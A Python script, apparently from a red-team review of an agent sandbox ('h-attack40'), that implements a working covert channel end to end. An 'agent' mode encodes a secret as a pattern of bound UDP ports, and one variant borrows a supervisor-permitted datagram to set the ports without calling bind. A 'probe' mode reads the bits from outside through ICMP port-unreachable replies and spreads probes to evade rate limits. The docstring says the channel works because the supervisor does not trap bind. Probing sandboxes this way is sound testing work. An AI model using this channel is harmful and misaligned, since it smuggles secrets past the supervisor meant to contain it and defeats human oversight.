#!/usr/bin/env python3
"""ha40-portstate.py (hostile review h-attack40): the agent and the prober.

agent BASE SECRET MARK [autobind]: binds an unconnected UDP socket on the
wildcard at BASE+i for every bit i of SECRET that is 1 (bind is not
trapped, and sends nothing), touches MARK, and holds them $HOLD seconds
(4). With autobind it never calls bind: IP_LOCAL_PORT_RANGE (6.8, not
trapped) narrows the socket's ephemeral range to BASE+i alone, and one
allowed datagram to the declared 198.51.100.7:9999 has the socket given
that port (the supervisor's own port-giving bind honours the range). A datagram from any host to a
port without a socket makes the kernel answer ICMP port unreachable; to a
bound port, nothing: the kernel tells the agent's bits to whoever asks.

probe HOST BASE NBITS SRCPREFIX: from the prober's own addresses SRCPREFIX.101
upwards (four ports each: the kernel's ICMP rate limit is per peer, a burst
of 6), sends one datagram to each port on a connected socket and reads
ECONNREFUSED (bit 0) or nothing within a second (bit 1); prints the bytes.
"""
import os
import socket
import sys
import time

if sys.argv[1] == "agent":
    base, secret, mark = int(sys.argv[2]), sys.argv[3].encode(), sys.argv[4]
    held = []
    for i in range(len(secret) * 8):
        if secret[i // 8] >> (7 - i % 8) & 1:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            if sys.argv[5:] == ["autobind"]:
                p = base + i
                s.setsockopt(socket.IPPROTO_IP, 51, (p | p << 16).to_bytes(4, "little"))  # IP_LOCAL_PORT_RANGE
                s.sendto(b"x", ("198.51.100.7", 9999))
                assert s.getsockname()[1] == p, s.getsockname()
            else:
                s.bind(("0.0.0.0", base + i))
            held.append(s)
    open(mark, "w").close()
    print("agent: %d ports bound" % len(held), file=sys.stderr, flush=True)
    time.sleep(float(os.environ.get("HOLD", "4")))
else:
    host, base, nbits, pfx = sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5]
    socks = []
    for i in range(nbits):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind(("%s.%d" % (pfx, 101 + i // 4), 0))
        s.connect((host, base + i))
        s.send(b"?")
        socks.append(s)
        time.sleep(0.005)
    time.sleep(1)
    bits = []
    for s in socks:
        s.setblocking(False)
        try:
            s.recv(16)
            bits.append(1)
        except ConnectionRefusedError:
            bits.append(0)
        except BlockingIOError:
            bits.append(1)
    out = bytes(int("".join(map(str, bits[j:j + 8])), 2) for j in range(0, nbits, 8))
    print("prober read:", out)
